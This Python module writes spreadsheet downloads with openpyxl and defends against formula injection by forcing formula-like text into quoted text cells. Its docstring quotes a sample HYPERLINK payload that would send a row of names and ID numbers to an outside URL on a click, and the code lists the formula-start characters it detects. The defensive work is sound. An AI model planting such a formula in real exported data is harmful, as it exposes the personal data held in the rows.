"""Every spreadsheet a user downloads is written here, so none carries a live formula.

Names, addresses and raw ID numbers come from uploaded lists: a cell text such as
``=HYPERLINK("http://…?"&H2,"点击")`` next to full ID numbers would run in Excel or
WPS as a formula (and send the row away on a click). Text is therefore always written
as text: a string cell marked with Excel's quote prefix (the text itself is unchanged;
editing the cell keeps it text). Numbers stay numbers, so amounts still add up, negative
ones included. Every download is an xlsx; a CSV one would need its own escaping here.
"""

import re
from collections.abc import Iterable, Sequence
from typing import BinaryIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Font

# A cell text starting with one of these is read as a formula by Excel, WPS or
# LibreOffice (full-width forms too: a Chinese input method types them).
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
# Control characters a worksheet cannot hold (openpyxl refuses the whole file).
_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037]")
_BOLD = Font(bold=True)


def is_formula_like(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip(" \u3000")[:1] in FORMULA_STARTS


def printable(text: str) -> str:
    """The text without the control characters a worksheet cannot hold."""
    return text if text.isprintable() else _ILLEGAL.sub("", text)


class XlsxSheet:
    """One sheet of a write-only workbook: rows go to disk as they are appended."""

    def __init__(self, workbook: Workbook, title: str):
        self._sheet = workbook.create_sheet(printable(title)[:31] or "Sheet")

    def widths(self, widths: dict[str, float]) -> None:
        """Column widths by letter; only before the first row (write-only mode)."""
        for letter, width in widths.items():
            self._sheet.column_dimensions[letter].width = width

    def header(self, names: Sequence[str]) -> None:
        cells = []
        for name in names:
            cell = self._text_cell(name)
            cell.font = _BOLD
            cells.append(cell)
        self._sheet.append(cells)

    def append(self, values: Iterable) -> None:
        """A row; str values are written as text whatever they hold, others as themselves."""
        row = []
        for value in values:
            if value.__class__ is str:
                value = printable(value)
                if is_formula_like(value) or value in ERROR_CODES:
                    value = self._text_cell(value)
            row.append(value)
        self._sheet.append(row)

    def _text_cell(self, text: str) -> WriteOnlyCell:
        cell = WriteOnlyCell(self._sheet, value=printable(str(text)))
        cell.data_type = "s"  # openpyxl made "=…" a formula; it stays text
        cell.quotePrefix = True
        return cell


class XlsxWorkbook:
    """A write-only openpyxl workbook (constant memory, however many rows)."""

    def __init__(self):
        self._workbook = Workbook(write_only=True)

    def sheet(
        self, title: str, *, header: Sequence[str] = (), widths: dict[str, float] | None = None
    ) -> XlsxSheet:
        sheet = XlsxSheet(self._workbook, title)
        sheet.widths(widths or {})
        if header:
            sheet.header(header)
        return sheet

    def save(self, stream: BinaryIO) -> None:
        self._workbook.save(stream)
